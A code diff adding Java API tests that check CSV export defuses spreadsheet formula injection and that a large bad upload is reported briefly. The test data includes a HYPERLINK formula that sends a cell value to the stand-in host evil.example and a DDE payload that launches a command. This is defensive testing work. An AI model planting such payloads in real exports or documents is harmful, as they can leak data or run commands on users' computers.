@@ -118,6 +118,62 @@ class CsvTest extends ApiTest {
                 .then().statusCode(415).contentType("application/problem+json");
     }
 
+    @Test
+    void textThatLooksLikeAFormulaIsNeutralisedAndStillRoundTrips() throws Exception {
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+        Map<String, Object> planBody = jp.industryplans.TestPlans.planBody("csv-formula-" + System.nanoTime());
+        planBody.put("title", hyperlink);
+        String plan = json().body(planBody).post("/api/v1/plans").then().statusCode(201).extract().path("id");
+        try {
+            formulasRoundTrip(plan, hyperlink);
+        } finally {
+            jp.industryplans.TestPlans.deletePlan(plan);
+        }
+    }
+
+    private void formulasRoundTrip(String plan, String hyperlink) throws Exception {
+        String indicator = jp.industryplans.TestPlans.createIndicator(plan, null, "formula");
+        Map<String, String> texts = Map.of("2021", "+1+cmd|' /C calc'!A0", "2022", "-5件", "2023", "@SUM(A1:A9)",
+                "2024", "\tTAB", "2025", "'already quoted");
+        texts.forEach((year, text) -> json().header("If-None-Match", "*")
+                .body(Map.of("value", -5, "text", text, "note", text)).put("/api/v1/indicators/" + indicator + "/values/"
+                        + year + "/ACTUAL").then().statusCode(201));
+
+        List<List<String>> plans = rows(csv("/api/v1/plans?municipality=131067&kind=INDUSTRIAL_PROMOTION_PLAN&size=200"));
+        List<String> planRow = plans.stream().filter(r -> r.get(0).equals(plan)).findFirst().orElseThrow();
+        assertEquals("'" + hyperlink, planRow.get(plans.get(0).indexOf("title")), "a formula is shown as text");
+
+        String exported = csv("/api/v1/indicators/values?indicator=" + indicator);
+        List<List<String>> rows = rows(exported);
+        int text = rows.get(0).indexOf("text");
+        int value = rows.get(0).indexOf("value");
+        for (List<String> row : rows.subList(1, rows.size())) {
+            assertEquals("-5", row.get(value), "numbers stay numbers, minus sign and all");
+            assertTrue(row.get(text).startsWith("'"), "neutralised: " + row.get(text));
+        }
+        // Uploaded again as exported: nothing changes, and no apostrophe is stored.
+        given().contentType("text/csv; charset=UTF-8").body(exported).post("/api/v1/indicators/values")
+                .then().statusCode(200).body("updated", equalTo(0)).body("unchanged", equalTo(5));
+        texts.forEach((year, t) -> json().get("/api/v1/indicators/" + indicator + "/values/" + year + "/ACTUAL")
+                .then().body("text", equalTo(t)).body("note", equalTo(t)));
+    }
+
+    @Test
+    void aHugeBadUploadListsTheFirstHundredFaultsAndCountsThemAll() {
+        String id = json().get("/api/v1/indicators?size=1").then().extract().path("items[0].id");
+        StringBuilder csv = new StringBuilder("indicatorId,fiscalYear,kind,value,text,missingReason,note\n");
+        for (int i = 0; i < 50_000; i++) {
+            csv.append(id).append(",令和0年度,TARGET,1,,,\n");
+        }
+        String body = invalid().contentType("text/csv").body(csv.toString()).post("/api/v1/indicators/values")
+                .then().statusCode(400).contentType("application/problem+json")
+                .body("detail", equalTo("50000 fields are invalid; the first 100 are listed."))
+                .body("errors.size()", equalTo(100))
+                .body("errors[0].field", equalTo("row 2, column fiscalYear"))
+                .extract().asString();
+        assertTrue(body.length() < 20_000, "a short answer, not megabytes: " + body.length());
+    }
+
     private static String write(List<List<String>> rows) throws Exception {
         return CSV.writer(CsvSchema.emptySchema()).writeValueAsString(rows);
     }
